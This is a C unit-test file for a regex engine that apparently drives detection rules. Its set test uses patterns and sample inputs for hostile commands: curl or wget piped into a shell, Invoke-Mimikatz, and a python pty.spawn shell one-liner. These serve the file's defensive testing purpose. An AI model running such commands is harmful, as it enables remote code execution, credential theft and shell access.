/*
 * Unit tests for the rules' regex engine (rx.h): what it refuses and why, how it matches bytes,
 * and that a set behind its atoms reports exactly the regexes that match.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "lib/rx.h"

static char err[256];

static struct rx *must(const char *pat)
{
	struct rx *r = NULL;
	if (rx_new(pat, strlen(pat), &r, err, sizeof(err)) != 0)
		fail_msg("'%s' refused: %s", pat, err);
	return r;
}

static void refuses(const char *pat, size_t len, const char *why)
{
	struct rx *r = (struct rx *)1;

	err[0] = '\0';
	assert_int_equal(rx_new(pat, len, &r, err, sizeof(err)), -EINVAL);
	assert_null(r);
	if (!strstr(err, why))
		fail_msg("'%.*s': reason '%s' lacks '%s'", (int)len, pat, err, why);
	assert_null(strchr(err, '\n'));
}

static void refusals_say_why(void **state)
{
	refuses("(a)\\1", 5, "escape"); /* back-references are not linear-time */
	refuses("a(?=b)", 6, "(?=");	/* nor is look-ahead */
	refuses("(a", 2, "missing )");
	refuses("a\0b", 3, "NUL");
	refuses("x{1001}", 7, "repetition");
	/* a program larger than RX_MAX_MEM allows: 50 times 1000 instructions */
	static const char piece[] = "[a-z]{1000}";
	char big[50 * (sizeof(piece) - 1)];
	for (size_t i = 0; i < 50; i++)
		memcpy(big + i * (sizeof(piece) - 1), piece, sizeof(piece) - 1);
	refuses(big, sizeof(big), "too large");
	/* the reason quotes the pattern; a control character in it is not a second line */
	refuses("(b\n", 3, "missing )");
}

static void matches_bytes(void **state)
{
	struct rx *r;

	/* anywhere in the value, bytes as Latin-1: any byte, valid UTF-8 or not */
	r = must("b+c");
	assert_true(rx_search(r, "aabbbcd", 7));
	assert_false(rx_search(r, "ac", 2));
	assert_false(rx_search(r, NULL, 0));
	rx_free(r);
	r = must("\\xff\\xfe");
	assert_true(rx_search(r, "a\xff\xfe", 3));
	rx_free(r);
	r = must("^a.c$");
	assert_true(rx_search(r,
			      "a\xe9"
			      "c",
			      3));
	assert_false(rx_search(r, "a\nc", 3));	/* . is not a newline */
	assert_false(rx_search(r, "abc\n", 4)); /* $ is the end of the value only */
	rx_free(r);
	/* a value may hold a NUL byte */
	r = must("a\\x00b");
	assert_true(rx_search(r, "xa\0b", 4));
	rx_free(r);
	/* case: as written, or ignored by (?i) */
	r = must("Invoke-X");
	assert_false(rx_search(r, "invoke-x", 8));
	rx_free(r);
	r = must("(?i)invoke-x");
	assert_true(rx_search(r, "INVOKE-X", 8));
	rx_free(r);
	assert_true(rx_bytes(NULL) == 0);
}

struct hits {
	unsigned ids[16];
	unsigned n;
};

static void on_hit(void *ctx, unsigned id)
{
	struct hits *h = ctx;
	assert_true(h->n < 16);
	h->ids[h->n++] = id;
}

/* The ids of the atoms of @s that occur in @text, ignoring ASCII case, into @out. */
static size_t atoms_in(const struct rx_set *s, const char *text, unsigned *out)
{
	size_t n = 0, tl = strlen(text);

	for (size_t a = 0; a < rx_set_atom_count(s); a++) {
		size_t al;
		const char *atom = rx_set_atom(s, a, &al);
		for (size_t i = 0; i + al <= tl; i++) {
			if (strncasecmp(text + i, atom, al) == 0) {
				out[n++] = (unsigned)a;
				break;
			}
		}
	}
	return n;
}

static unsigned matched(const struct rx_set *s, const char *text, struct hits *h)
{
	unsigned atoms[256];
	size_t n = atoms_in(s, text, atoms);

	memset(h, 0, sizeof(*h));
	int ret = rx_set_match(s, text, strlen(text), atoms, n, on_hit, h);
	assert_int_equal(ret, (int)h->n);
	return h->n;
}

static void set_behind_atoms(void **state)
{
	static const char *const pats[] = {
	    "(curl|wget)\\s.*\\|\\s*(ba)?sh", /* atoms: either tool's name */
	    "Invoke-Mimikatz", /* case-sensitive: its atom is matched ignoring case */
	    "(?i)pty\\.spawn", /* caseless */
	    "^-[a-z]$",	       /* no atom of RX_MIN_ATOM bytes: runs on every value */
	};
	struct rx_set *s = NULL;
	struct hits h;
	size_t len;

	assert_int_equal(rx_set_new(&s), 0);
	assert_int_equal(rx_set_compile(s), -EINVAL); /* nothing to compile */
	for (size_t i = 0; i < 4; i++)
		assert_int_equal(rx_set_add(s, pats[i], strlen(pats[i]), err, sizeof(err)), 0);
	assert_int_equal(rx_set_add(s, "(x", 2, err, sizeof(err)), -EINVAL);
	assert_non_null(strstr(err, "missing )"));
	assert_int_equal(rx_set_count(s), 4); /* a refusal leaves the set as it was */
	assert_int_equal(rx_set_compile(s), 0);
	assert_int_equal(rx_set_compile(s), -EINVAL);
	assert_int_equal(rx_set_add(s, "y", 1, err, sizeof(err)), -EINVAL);
	assert_true(rx_set_has_unfiltered(s));
	assert_true(rx_set_atom_count(s) >= 4);
	for (size_t a = 0; a < rx_set_atom_count(s); a++) {
		const char *atom = rx_set_atom(s, a, &len);
		assert_true(len >= RX_MIN_ATOM);
		for (size_t k = 0; k < len; k++)
			assert_false(atom[k] >= 'A' && atom[k] <= 'Z');
	}
	assert_null(rx_set_atom(s, rx_set_atom_count(s), &len));
	assert_int_equal(len, 0);

	assert_int_equal(matched(s, "wget -q -O- http://x | sh", &h), 1);
	assert_int_equal(h.ids[0], 0);
	assert_int_equal(matched(s, "CURL x | bash", &h), 0); /* the atom is there, the regex not */
	assert_int_equal(matched(s, "powershell Invoke-Mimikatz", &h), 1);
	assert_int_equal(h.ids[0], 1);
	assert_int_equal(matched(s, "powershell invoke-mimikatz", &h), 0);
	assert_int_equal(matched(s, "python -c 'import pty; PTY.SPAWN(1)'", &h), 1);
	assert_int_equal(h.ids[0], 2);
	assert_int_equal(matched(s, "-x", &h), 1); /* with no atom found at all */
	assert_int_equal(h.ids[0], 3);
	assert_int_equal(matched(s, "ls -l", &h), 0);
	/* every regex that matches is reported, once */
	assert_int_equal(matched(s, "curl a | sh; Invoke-Mimikatz; pty.spawn", &h), 3);
	/* atoms the set does not have are ignored */
	unsigned bogus[] = {100000, 7};
	memset(&h, 0, sizeof(h));
	assert_true(rx_set_match(s, "zz", 2, bogus, 2, on_hit, &h) >= 0);
	assert_int_equal(h.n, 0);
	rx_set_free(s);
	rx_set_free(NULL);
	rx_free(NULL);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(refusals_say_why),
	    cmocka_unit_test(matches_bytes),
	    cmocka_unit_test(set_behind_atoms),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
